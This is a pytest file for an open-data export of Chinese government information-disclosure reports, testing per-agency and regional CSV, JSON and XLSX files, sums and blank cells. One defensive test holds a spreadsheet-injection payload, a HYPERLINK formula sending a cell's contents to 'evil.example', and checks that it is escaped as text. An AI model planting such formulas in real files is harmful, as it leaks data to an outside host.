"""Open data per report and per region and year, with sums over additive cells only."""

import csv
import io
import json

from openpyxl import load_workbook

from gkreport.formats import FORMAT_2019
from tests.public.conftest import publish_as_printed
from tests.reports.conftest import stored_report


def test_report_csv_has_every_cell_with_labels_and_a_bom(client, people, published):
    response = client.get(f"/public/agency/{people.agency.code}/2023/data.csv")
    assert response.content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == ["单元格代码", "表", "栏目", "行", "列", "数值", "原文"]
    assert len(rows) == 1 + 200
    by_code = {row[0]: row for row in rows[1:]}
    assert by_code["t3.new_received.total"][3:6] == [
        "一、本年新收政府信息公开申请数量",
        "总计",
        "9",
    ]
    assert by_code["t2.fees.amount"][5] == "15.5"
    assert by_code["t4.review.total"][1] == "表四"


def test_report_json(client, people, published):
    data = json.loads(client.get(f"/public/agency/{people.agency.code}/2023/data.json").content)
    assert data["agency"] == "测试市行政审批服务局" and data["version"] == 1
    assert data["pdf_sha256"] == published.versions.get().sha256
    cell = next(c for c in data["cells"] if c["code"] == "t4.review.total")
    assert cell == {
        "code": "t4.review.total",
        "table": "表四",
        "block": "",
        "row": "行政复议",
        "column": "总计",
        "value": 2,
        "as_printed": "2",
    }


def test_region_table_sums_over_agencies(client, people, published):
    other = stored_report(people.other_agency)
    other.cells["t3.new_received.total"] = "11"  # (an inconsistent report, published as printed)
    other.save()
    publish_as_printed(other, people.bob)
    region = people.agency.region_id
    text = client.get(f"/public/data/2023/{region}.csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    header, labels, *agencies, total = rows
    column = header.index("t3.new_received.total")
    assert [r[0] for r in agencies] == ["测试市科学技术局", "测试市行政审批服务局"]
    assert [r[column] for r in agencies] == ["11", "9"]
    assert total[0] == "合计" and total[column] == "20"
    assert labels[column] == "表三 一、本年新收政府信息公开申请数量 总计"
    data = json.loads(client.get(f"/public/data/2023/{region}.json").content)
    assert data["sums"]["t3.new_received.total"] == 20
    assert data["sums"]["t2.fees.amount"] == "31.0"
    sheet = load_workbook(io.BytesIO(client.get(f"/public/data/2023/{region}.xlsx").content)).active
    assert sheet.cell(row=sheet.max_row, column=1).value == "合计"


def test_a_blank_cell_leaves_its_sum_empty(client, people, published):
    other = stored_report(people.other_agency)
    other.cells["t4.review.pending"] = ""
    other.save()
    publish_as_printed(other, people.bob)
    data = json.loads(client.get(f"/public/data/2023/{people.agency.region_id}.json").content)
    assert data["sums"]["t4.review.pending"] is None
    assert data["sums"]["t4.review.upheld"] == 2


def test_items_of_the_2019_format_are_not_summed():
    additive = {cell.code: cell.additive for cell in FORMAT_2019.cells}
    assert additive["t2.licensing.previous_items"] is False
    assert additive["t2.licensing.change"] is False
    assert additive["t2.licensing.decisions"] is True
    assert additive["t3.new_received.total"] is True


FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'


def test_formulas_in_names_and_cells_come_out_as_text(client, people):
    people.agency.name = FORMULA_NAME
    people.agency.save()
    people.report.cells["t2.fees.amount"] = "=1+1"
    people.report.save()
    publish_as_printed(people.report, people.bob)
    code, region = people.agency.code, people.agency.region_id

    text = client.get(f"/public/agency/{code}/2023/data.csv").content.decode("utf-8-sig")
    by_code = {row[0]: row for row in csv.reader(io.StringIO(text))}
    assert by_code["t2.fees.amount"][6] == "'=1+1"
    assert by_code["t3.new_received.total"][5] == "9"  # a number stays a number

    text = client.get(f"/public/data/2023/{region}.csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[2][0] == "'" + FORMULA_NAME

    content = client.get(f"/public/data/2023/{region}.xlsx").content
    sheet = load_workbook(io.BytesIO(content)).active
    name = sheet.cell(row=4, column=1)
    assert name.value == "'" + FORMULA_NAME and name.data_type == "s"
    column = [c.value for c in sheet[2]].index("t3.new_received.total") + 1
    assert sheet.cell(row=4, column=column).value == 9
